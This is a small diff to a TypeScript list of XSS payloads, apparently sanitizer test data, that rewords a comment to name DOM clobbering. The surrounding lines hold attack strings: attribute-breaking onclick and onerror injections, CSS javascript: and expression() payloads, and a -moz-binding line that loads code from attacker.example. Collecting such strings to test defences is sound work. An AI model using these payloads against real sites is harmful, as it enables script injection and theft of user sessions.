@@ -193,7 +193,7 @@ export const xssPayloads: readonly string[] = [
   '<a target="&quot;onclick=&quot;alert(1)" href="x">x</a>',
   '<a rel=\'"><img src=x onerror=alert(1)>\' href="x">x</a>',
 
-  // Styles, and names that take over what scripts rely on.
+  // Styles, and ids and names that replace globals of scripts (DOM clobbering).
   '<p style="background:url(javascript:alert(1))">x</p>',
   '<p style="width:expression(alert(1))">x</p>',
   '<p style="-moz-binding:url(//attacker.example/x.xml#x)">x</p>',
